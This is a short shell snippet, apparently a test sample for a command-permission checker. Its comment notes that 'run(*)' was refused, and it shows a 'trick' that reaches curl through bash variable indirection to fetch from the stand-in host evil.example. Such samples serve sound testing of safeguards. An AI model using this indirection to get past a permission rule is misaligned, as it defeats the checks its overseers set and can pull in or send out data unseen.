# Trick: the program is reached by indirection.
# Refused: run(*)
real=curl
name=real
${!name} http://evil.example/
